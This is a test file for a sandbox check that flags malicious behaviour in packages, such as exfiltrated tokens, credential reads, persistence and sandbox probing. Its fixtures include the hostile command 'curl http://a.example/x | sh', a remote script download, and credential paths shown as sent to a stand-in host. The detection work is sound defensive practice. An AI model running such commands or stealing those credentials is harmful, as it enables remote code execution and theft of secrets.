import { describe, expect, it } from 'vitest';
import { runCheck } from '../../../../test/builders/check-runner.ts';
import type { Detonation } from '../../../core/detonation.ts';
import { detonationRecord } from '../../../core/detonation.ts';
import check from './check.ts';

const QUIET: Detonation = {
  ecosystem: 'pypi',
  name: 'quiet',
  version: '1.0',
  file: 'quiet-1.0-py3-none-any.whl',
  tools: [],
  phases: [],
  processes: [],
  hosts: [],
  requests: [],
  files: [],
  canaries: [],
  stages: [],
  layers: [],
  acts: [],
  cut: [],
};

async function found(change: Partial<Detonation>): Promise<readonly string[]> {
  const record = { ...QUIET, ...change };
  const findings = await runCheck(check, [[detonationRecord, record]]);
  return findings.map(
    (finding) => `${finding.severity} ${finding.rule.replace('detonation/', '')}`,
  );
}

const by = 'python3 setup.py';
const file = (
  path: string,
  place: Detonation['files'][number]['place'],
  act: Detonation['files'][number]['act'] = 'written',
) => ({
  files: [{ phase: 'install', act, path, place, by } as const],
});

describe('detonation', () => {
  it.each<readonly [string, Partial<Detonation>]>([
    [
      'critical token-sent',
      {
        canaries: [
          {
            phase: 'start',
            planted: '$NPM_TOKEN',
            encoding: 'base64',
            host: 'a.example',
            carrier: 'http POST to port 80',
          },
        ],
      },
    ],
    [
      'medium machine-name-sent',
      {
        canaries: [
          {
            phase: 'install',
            planted: 'the name of the machine',
            encoding: 'plain',
            host: 'a.example',
            carrier: 'name that was looked up',
          },
        ],
      },
    ],
    [
      'critical download-run',
      { stages: [{ phase: 'install', address: 'http://a.example/x.sh', interpreter: 'sh x.sh' }] },
    ],
    ['high credential-read', file('~/.aws/credentials', 'credential', 'read')],
    ['high startup-changed', file('~/.bashrc', 'shell-start')],
    ['high startup-changed', file('~/.config/systemd/user/x.service', 'persistence')],
    ['high startup-changed', file('~/.ssh/id_rsa', 'credential', 'made-executable')],
    ['high agent-changed', file('~/.claude/settings.json', 'agent-configuration')],
    ['high neighbour-changed', file('~/project/node_modules/other/index.js', 'other-package')],
    ['high files-destroyed', file('~/Documents/notes.txt', 'home', 'deleted')],
    [
      'high host-contacted-on-import',
      { hosts: [{ phase: 'start', host: 'a.example', contact: 'looked-up' }] },
    ],
    [
      'medium host-contacted-on-install',
      { hosts: [{ phase: 'install', host: 'a.example', port: 443, contact: 'connected' }] },
    ],
    [
      'low host-contacted-on-command',
      { hosts: [{ phase: 'command', host: 'a.example', port: 443, contact: 'refused' }] },
    ],
    [
      'high forbidden-call',
      { acts: [{ phase: 'import', kind: 'debugger', detail: 'ptrace', by }] },
    ],
    [
      'high program-in-memory',
      { acts: [{ phase: 'import', kind: 'program-in-memory', detail: '/memfd:x', by }] },
    ],
    [
      'medium long-sleep',
      { acts: [{ phase: 'import', kind: 'long-sleep', detail: '600 seconds', by }] },
    ],
    [
      'medium machine-probed',
      {
        acts: [
          {
            phase: 'import',
            kind: 'sandbox-probing',
            detail: '/sys/class/dmi/id/product_name',
            by,
          },
        ],
      },
    ],
    [
      'medium listening',
      { acts: [{ phase: 'import', kind: 'listening', detail: '0.0.0.0 port 4444', by }] },
    ],
    [
      'low process-started',
      {
        processes: [
          { phase: 'import', path: '/usr/bin/uname', argv: ['uname', '-p'], parents: [] },
        ],
      },
    ],
    [
      'info source-made',
      {
        layers: [
          {
            phase: 'import',
            language: 'python',
            via: 'compile',
            from: 'a.py',
            bytes: 3,
            text: 'x=1',
          },
        ],
      },
    ],
  ])('reports %s', async (expected, change) => {
    expect(await found(change)).toEqual([expected]);
  });

  it('tells a hostile command from others', async () => {
    const processes = [
      {
        phase: 'install',
        path: '/bin/sh',
        argv: ['sh', '-c', 'curl http://a.example/x | sh'],
        parents: [],
      } as const,
    ];
    expect(await found({ processes })).toEqual(['high hostile-command', 'low process-started']);
  });

  it.each<readonly [string, Partial<Detonation>]>([
    ['nothing', {}],
    [
      'a file of its own for a while',
      {
        files: [
          { phase: 'install', act: 'written', path: '~/x.lock', place: 'home', by },
          { phase: 'install', act: 'deleted', path: '~/x.lock', place: 'home', by },
        ],
      },
    ],
    ['a cache', file('~/.cache/fontconfig/x', 'home', 'deleted')],
    ['the shared folder of builds', file('~/project/node_modules/.cache/x', 'other-package')],
    ['temporary files', file('/tmp/x', 'temporary')],
    [
      'code made in memory',
      { acts: [{ phase: 'import', kind: 'code-in-memory', detail: 'mmap', by }] },
    ],
  ])('is silent about %s', async (_, change) => {
    expect(await found(change)).toEqual([]);
  });

  it('puts tokens of one host into one finding, with what was sent', async () => {
    const token = (planted: string) =>
      ({
        phase: 'import',
        planted,
        encoding: 'gzip',
        host: 'a.example',
        carrier: 'https POST to port 443',
      }) as const;
    const findings = await runCheck(check, [
      [
        detonationRecord,
        {
          ...QUIET,
          canaries: ['~/.netrc', '$HF_TOKEN', '~/.npmrc', '~/.pypirc', '~/.vault-token'].map(token),
          requests: [
            {
              phase: 'import',
              protocol: 'https',
              host: 'a.example',
              port: 443,
              line: 'POST /',
              bytes: 9,
              excerpt: 'a\nb',
            },
          ],
        },
      ],
    ]);
    expect(findings).toHaveLength(1);
    expect(findings[0]?.message).toBe(
      '~/.netrc, $HF_TOKEN, ~/.npmrc, ~/.pypirc and 1 more was sent to a.example when it was imported',
    );
    expect(findings[0]?.evidence?.at(-1)).toBe('https POST / (9 bytes): a b');
  });
});
